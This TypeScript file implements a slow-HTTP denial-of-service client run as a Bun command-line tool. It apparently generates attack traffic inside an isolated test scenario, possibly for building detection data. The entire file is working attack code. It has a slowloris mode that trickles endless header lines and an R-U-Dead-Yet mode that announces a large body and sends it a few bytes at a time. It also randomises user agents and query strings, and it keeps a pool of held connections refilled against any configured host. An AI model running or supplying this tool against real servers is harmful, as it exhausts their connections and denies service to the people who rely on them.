// A scripted slow-HTTP client (run by Bun inside the scenario's namespace, so it is a separate,
// killable process): it holds many connections open by sending a request a trickle at a time,
// either the headers (slowloris: one more header line every interval, the blank line never) or a
// POST body (R-U-Dead-Yet: a large Content-Length, then a few bytes every interval). Closed
// connections are reopened at the connect rate. It prints one JSON line of counts a second (so a
// run killed at its deadline still reports) and stops by itself after its duration.
// Usage: bun slowloris-client.ts '<SlowClientConfig as JSON>'
import { connect, type Socket } from "node:net";
import { rng } from "../../../models/data/split.ts";

export interface SlowClientConfig {
  host: string;
  port: number;
  path: string;
  mode: "headers" | "body";
  /** Connections to hold open. */
  sockets: number;
  /** New connections per second (initial ramp and reopening). */
  connectPerSecond: number;
  /** Time between two trickles on one connection, ms (each connection jitters it). */
  intervalMs: number;
  /** Bytes per body trickle. */
  chunkBytes: [number, number];
  /** The body's announced length (body mode). */
  contentLength: number;
  userAgents: string[];
  durationMs: number;
  seed: number;
}

export interface SlowClientStats {
  opened: number;
  closed: number;
  /** Connections open (or opening) at the time of the report. */
  open: number;
  trickles: number;
  bytes: number;
}

export async function runSlowClient(config: SlowClientConfig, report: (stats: SlowClientStats) => void): Promise<SlowClientStats> {
  const rand = rng(config.seed);
  const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
  const word = () => Math.floor(rand() * 36 ** 6).toString(36);
  const stats: SlowClientStats = { opened: 0, closed: 0, open: 0, trickles: 0, bytes: 0 };
  const live = new Set<Socket>();
  const timers = new Set<ReturnType<typeof setTimeout>>();
  const ends = performance.now() + config.durationMs;
  let stopping = false;

  const send = (sock: Socket, text: string) => {
    if (sock.destroyed) return;
    sock.write(text);
    stats.bytes += text.length;
  };

  const open = () => {
    if (stopping) return;
    const sock = connect({ host: config.host, port: config.port });
    sock.setNoDelay(true);
    live.add(sock);
    sock.on("connect", () => {
      stats.opened++;
      const ua = config.userAgents[int(0, config.userAgents.length - 1)] ?? "Mozilla/5.0";
      // An IPv6 literal is bracketed in Host, as in a URL.
      const host = `Host: ${config.host.includes(":") ? `[${config.host}]` : config.host}\r\nUser-Agent: ${ua}\r\nAccept-Language: en-US,en;q=0.5\r\n`;
      if (config.mode === "headers") {
        send(sock, `GET ${config.path}?${word()} HTTP/1.1\r\n${host}`);
      } else {
        send(sock, `POST ${config.path} HTTP/1.1\r\n${host}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${config.contentLength}\r\nConnection: keep-alive\r\n\r\n`);
      }
      const tick = () => {
        if (stopping || sock.destroyed) return;
        if (config.mode === "headers") send(sock, `X-${word()}: ${word()}\r\n`);
        else send(sock, "a=".concat("x".repeat(Math.max(0, int(...config.chunkBytes) - 2))));
        stats.trickles++;
        const t = setTimeout(tick, Math.round(config.intervalMs * (0.7 + 0.6 * rand())));
        timers.add(t);
      };
      const t = setTimeout(tick, Math.round(config.intervalMs * rand()));
      timers.add(t);
    });
    // The server's answer (408, 400) is read and dropped; a close is counted and replaced.
    sock.on("data", () => {});
    sock.on("error", () => {});
    sock.on("close", () => {
      if (live.delete(sock)) stats.closed++;
    });
  };

  const reporter = setInterval(() => report({ ...stats, open: live.size }), 1_000);
  // Ramp up and keep the pool full at the connect rate.
  const stepMs = 100;
  const perStep = Math.max(1, Math.round((config.connectPerSecond * stepMs) / 1_000));
  while (performance.now() < ends) {
    for (let i = 0; i < perStep && live.size < config.sockets; i++) open();
    await Bun.sleep(stepMs);
  }
  stopping = true;
  clearInterval(reporter);
  for (const t of timers) clearTimeout(t);
  for (const sock of live) sock.destroy();
  const final = { ...stats, open: 0 };
  report(final);
  return final;
}

if (import.meta.main) {
  const arg = process.argv[2];
  if (!arg) throw new Error("usage: slowloris-client.ts '<config json>'");
  const config = JSON.parse(arg) as SlowClientConfig;
  await runSlowClient(config, (s) => console.log(JSON.stringify(s)));
  process.exit(0);
}
